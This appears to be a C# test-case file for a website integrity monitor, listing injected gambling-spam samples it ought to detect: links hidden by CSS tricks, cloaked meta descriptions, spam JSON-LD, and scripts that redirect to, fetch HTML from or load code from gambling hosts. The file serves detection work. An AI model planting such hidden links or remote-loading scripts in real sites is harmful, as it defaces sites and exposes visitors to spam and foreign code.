namespace MonitorBot.Core.Integrity.Cases;

/// <summary>A fourth set, written after the third was right and judged once before anything was changed for it.</summary>
internal static class InjectedFourth
{
    private const string Two = """<a href="https://arunika-digital.com/">situs slot</a> <a href="https://bimasakti-media.net/">bandar toto macau</a>""";

    public static readonly Case[] All =
    [
        new("inline box of no size", "hidden") { Foot = $"""<span style="display:inline-block;width:0;height:0;overflow:hidden">{Two}</span>""" },
        new("collapsed", "hidden") { Foot = $"""<div style="visibility:collapse">{Two}</div>""" },
        new("a hundredth of its opacity", "hidden") { Foot = $"""<div style="opacity:.01">{Two}</div>""" },
        new("margin far to the left", "hidden") { Foot = $"""<div style="margin-left:-5000px">{Two}</div>""" },
        new("old clip of nothing", "hidden") { Foot = $"""<div style="position:absolute;clip:rect(0,0,0,0)">{Two}</div>""" },
        new("capitals and blanks in the style", "hidden") { Foot = $"""<center style=" DISPLAY : NONE !IMPORTANT ">{Two}</center>""" },
        new("a tenth of a pixel high", "hidden") { Nav = $"""<div style="height:0.1px;overflow:hidden">{Two}</div>""" },
        new("moved away in three dimensions", "hidden") { Foot = $"""<div style="transform:translate3d(-9999px,-9999px,0)">{Two}</div>""" },
        new("turned on its edge", "hidden") { Foot = $"""<div style="transform:rotateY(90deg)">{Two}</div>""" },
        new("letters drawn together", "hidden") { Foot = $"""<div style="letter-spacing:-1000px;overflow:hidden">{Two}</div>""" },
        new("behind the page in white", "hidden") { Foot = $"""<div style="position:absolute;z-index:-9999;color:white">{Two}</div>""" },
        new("list that scrolls in no height", "hidden") { Foot = $"""<ol style="list-style:none;max-height:0;overflow-y:auto">{Two}</ol>""" },
        new("rule with a variable", "class rule") { Head = "<style>:root{--z:none}.k1{--v:none;display:var(--v)}</style>", Foot = $"""<div class="k1">{Two}</div>""" },
        new("rule for the last section", "class rule") { Head = "<style>body > footer ~ .g9, .g9{position:absolute;left:-3333px}</style>", End = $"""<div class="g9">{Two}</div>""" },
        new("address without a scheme", "outbound") { Foot = """<a href="//slotgacor.best/">.</a>""" },
        new("short address", "outbound") { Side = """<a href="https://bit.ly/slotgacor88resmi">Slot Gacor Resmi</a>""" },
        new("channel of a messenger", "outbound") { Side = """<a href="https://t.me/slotgacorvip">Bocoran Slot Gacor VIP</a>""" },
        new("picture of a gambling host", "outbound") { Side = """<img src="https://slotgacor77.com/banner.gif" alt="promo">""" },
        new("style sheet of a gambling host", "outbound") { Head = """<link rel="stylesheet" href="https://cdn.slotgacor.best/x.css">""" },
        new("button that opens a window", "outbound") { Side = """<button onclick="window.open('https://gacor77.pro/')">Promo</button>""" },
        new("leak of the day", "title") { Title = "Bocoran RTP Slot Pragmatic Play Live Hari Ini 2026" },
        new("list of ten", "title") { Title = "Daftar 10 Situs Judi Slot Online Terpercaya dan Resmi" },
        new("demonstration", "title") { Title = "Demo Slot PG Soft Anti Lag Terlengkap" },
        new("results of Macau", "title") { Title = "Keluaran Macau | Data Pengeluaran Macau Tercepat" },
        new("leet through and through", "disguise") { Title = "5L0T D3P0 10K G4C0R" },
        new("emoji between the letters", "disguise") { Title = "🎰S🎰L🎰O🎰T 🎰G🎰A🎰C🎰O🎰R" },
        new("accents on the letters", "disguise") { Title = "Ŝlöt Gàcór Màxwín" },
        new("description with the office's name", "meta") { Head = """<meta name="description" content="Dinas Perumahan Kaltim adalah situs slot gacor terpercaya 2026 dengan RTP live tertinggi, slot deposit dana dan bonus new member 100.">""" },
        new("questions for search engines", "json-ld") { Head = """<script type="application/ld+json">{"@type":"FAQPage","mainEntity":[{"@type":"Question","name":"Situs slot gacor terpercaya?","acceptedAnswer":{"@type":"Answer","text":"Daftar di link alternatif resmi."}}]}</script>""" },
        new("the same person elsewhere", "json-ld") { Head = """<script type="application/ld+json">{"@type":"Organization","name":"Dinas Perumahan","sameAs":["https://slot88resmi.com","https://gacor77.pro"]}</script>""" },
        new("accelerated copy of a brand", "canonical") { Head = """<link rel="amphtml" href="https://luna-777.pages.dev/">""" },
        new("slugs of games", "sitemap") { Listed = [(ListKind.Sitemap, "/pg-soft-demo/", ""), (ListKind.Sitemap, "/cheat-slot-gacor-2026/", ""), (ListKind.Sitemap, "/toto-4d-online/", "")] },
        new("Thai slugs", "sitemap") { Listed = [(ListKind.Sitemap, "/%E0%B8%AA%E0%B8%A5%E0%B9%87%E0%B8%AD%E0%B8%95/", "")] },
        new("agenda of bets", "list") { Listed = [(ListKind.List, "/agenda/77", "SBOBET Mix Parlay 3 Tim Malam Ini Pasti Menang")] },
        new("English feed", "feed") { Listed = [(ListKind.Feed, "/post/9", "Best Online Casino Free Spins No Deposit Bonus")] },
        new("script leads away after some seconds", "script") { End = """<script>setTimeout(function(){window.location='https://slot88.lol/'},5000);</script>""" },
        new("script fetches the block", "script") { End = """<script>fetch('https://rtp-gacor.click/x.txt').then(r=>r.text()).then(h=>{document.body.innerHTML+=h});</script>""" },
        new("script loads another by a library", "script") { End = """<script>jQuery.getScript("//slotgacor.xyz/j.js");document.write('');</script>""" },
        new("description for Googlebot only", "cloaking") { ForGooglebot = new("", "") { Head = """<meta name="description" content="Slot gacor hari ini, link alternatif slot88 maxwin terpercaya.">""" } },
        new("led from Google to live odds", "redirect") { LedTo = "https://rtp77.live/" },
    ];
}
